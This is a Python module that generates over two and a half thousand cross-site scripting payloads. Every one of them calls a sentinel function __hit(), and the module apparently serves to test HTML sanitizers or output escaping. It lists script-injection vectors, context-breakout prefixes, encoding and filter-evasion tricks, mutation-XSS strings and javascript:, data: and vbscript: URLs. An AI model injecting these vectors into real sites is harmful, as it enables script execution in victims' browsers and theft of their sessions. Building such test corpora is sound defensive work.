"""Ways to smuggle a script into a page: vectors times contexts to break out of, each calling ``__hit``."""

from __future__ import annotations

from collections.abc import Iterator

_ELEMENTS = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee",
    "select autofocus",
    "textarea autofocus", "iframe src=x", "object data=x", "embed src=x", "a tabindex=0 autofocus",
    "video><source src=x",
    "style", "link rel=stylesheet href=x", "button autofocus", "math", "x tabindex=0 autofocus",
    "isindex type=image src=x",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onpageshow", "onanimationstart", "onmouseover",
)  # fmt: skip
_CALLS = ("__hit()", "&#95;_hit()", "\\u005f_hit()", "top['__h'+'it']()", "eval('__hit()')")
_OUT = (
    "", '">', "'>", "-->", "]]>", "</title>", "</script>", "</textarea>", "</style>", "</noscript>", "</template>",
    "`>", "\\\">",
    "</svg>", "\u2028", "<!--><", "{{7*7}}", "&quot;&gt;", "%22%3E",
)  # fmt: skip
_WHOLE = (
    "<script>__hit()</script>", "<scr<script>ipt>__hit()</scr</script>ipt>", "<script src=data:,__hit()></script>",
    "<script type=module>__hit()</script>", "<svg><script>__hit()</script></svg>", "<svg><script href=data:,__hit() />",
    "<iframe srcdoc='<script>parent.__hit()</script>'></iframe>", "<iframe src='javascript:parent.__hit()'></iframe>",
    "<object data='javascript:__hit()'></object>", "<embed src='javascript:__hit()'>",
    "<base href='javascript:/a/-__hit()//'>", "<meta http-equiv=refresh content='0;url=javascript:__hit()'>",
    "<form action=javascript:__hit()><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__hit()&gt;\">",
    "<svg><style><img src=x onerror=__hit()></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=__hit()>\">",
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:__hit()'><text y=20>x</text></a></svg>",
    "<math href='javascript:__hit()'>x</math>", "<a href='jav&#x09;ascript:__hit()'>x</a>",
    "<a href='&#14;javascript:__hit()'>x</a>",
    "<a href='data:text/html,<script>parent.__hit()</script>'>x</a>", "<a href='vbscript:__hit()'>x</a>",
    "<img src='x' style='xss:expression(__hit())'>", "<style>@import 'data:text/css,*{x:expression(__hit())}';</style>",
    "<template><img src=x onerror=__hit()></template>", "<div style='background:url(javascript:__hit())'>",
    "<x contenteditable onblur=__hit()>x</x>", "<table background='javascript:__hit()'>",
    "<isindex action=javascript:__hit() type=submit>",
    "<xmp><p title=\"</xmp><img src=x onerror=__hit()>\">", "<title><img src=x onerror=__hit()></title>",
    "<p><svg><title><style><img title='</style><img src=x onerror=__hit()>'></title></svg>", "javascript:__hit()",
    "__proto__",
    "&lt;img src=x onerror=__hit()&gt;", "&amp;lt;script&amp;gt;__hit()&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3e__hit()\\x3c/script\\x3e",
)  # fmt: skip
ADDRESSES = (
    "javascript:__hit()", "JaVaScRiPt:__hit()", " javascript:__hit()", "java\tscript:__hit()", "javascript\n:__hit()",
    "\x01javascript:__hit()", "data:text/html,<script>__hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+",
    "vbscript:__hit()", "//evil.example/x", "https://a.example/\"onmouseover=__hit()//",
    "https://a.example/'><script>__hit()</script>",
    "https://a.example/`${__hit()}`", "https://user:pass@a.example/", "blob:https://a.example/x",
    "javascript://a.example/%0a__hit()",
    "https://a.example/</script><script>__hit()</script>", "feed:javascript:__hit()", "view-source:javascript:__hit()",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """More than two and a half thousand texts."""
    yield from _WHOLE
    for way in _OUT:
        for words in _WHOLE:
            if way:
                yield way + words
    number = 0
    for element in _ELEMENTS:
        for event in _EVENTS:
            for call in _CALLS:
                way = _OUT[number % len(_OUT)]
                number += 1
                yield f"{way}<{element} {event}={call}>"
                yield f'{way}<{element}/{event}="{call}"//'
